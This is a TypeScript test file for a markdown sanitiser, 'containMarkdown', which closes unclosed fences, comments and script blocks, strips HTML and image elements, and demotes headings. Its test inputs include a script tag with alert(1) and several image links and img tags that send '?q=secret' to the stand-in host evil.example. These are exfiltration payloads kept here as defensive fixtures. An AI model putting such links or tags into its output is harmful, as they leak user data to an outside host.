import { fromMarkdown } from 'mdast-util-from-markdown'
import { describe, expect, it } from 'vitest'
import { containMarkdown } from '../../../../src/main/ipc/contain-markdown.ts'

const next = '## b\\.pdf\n\nThe next answer.'

/** What the document is made of where the next part begins, and whether anything in it loads by itself or hides what comes after. */
const partsAfter = (answer: string) => {
  const tree = fromMarkdown(`${containMarkdown(answer)}\n\n${next}`)
  const [heading, text] = tree.children.slice(-2)
  return { last: [heading?.type, text?.type], kinds: JSON.stringify(tree).match(/"type":"(?:html|image|imageReference)"/gu) }
}

describe('containMarkdown', () => {
  it.each([
    ['a fence that is never closed', 'Look:\n\n```js\nconst a = 1'],
    ['a longer fence of tildes', '~~~~\ncode\n~~~'],
    ['a fence within a list', '- a\n\n  ```\n  b'],
    ['a remark that is never closed', 'Look:\n\n<!-- '],
    ['a script that is never closed', '<script>\nalert(1)\n\n![a](https://evil.example/?q=secret)'],
    ['an instruction that is never closed', '<?php\n\n# x'],
    ['a page element', '<img src="https://evil.example/?q=secret">'],
    ['a page element in a line', 'a <img src="https://evil.example/?q=secret"> b'],
    ['a picture from elsewhere', 'Text ![a](https://evil.example/?q=secret) more'],
    ['a picture by reference', '![a][r]\n\n[r]: https://evil.example/?q=secret'],
    ['pictures within each other', '![a ![b](https://evil.example/b)](https://evil.example/a)'],
    ['a heading that its line makes', 'b.pdf'],
  ])('lets nothing through of %s', (_name, answer) => {
    expect(partsAfter(answer)).toEqual({ last: ['heading', 'paragraph'], kinds: null })
  })

  it('puts headings below that of the file, so that none can pass for the part of another', () => {
    expect(containMarkdown('# b.pdf ![x](y)\n\nFake.\n\nc.pdf\n---\n\nFake.\n\n##### deep')).toBe(
      '### b.pdf [x](y)\n\nFake.\n\n#### c.pdf\n\nFake.\n\n###### deep',
    )
  })

  it.each(['An **answer** with `![code](x)` and [a link](https://example.com).', '| a | b |\n| - | - |\n| 1 | 2 |', '```html\n<b>\n```'])(
    'leaves %j as it is',
    (answer) => {
      expect(containMarkdown(answer)).toBe(answer)
    },
  )
})
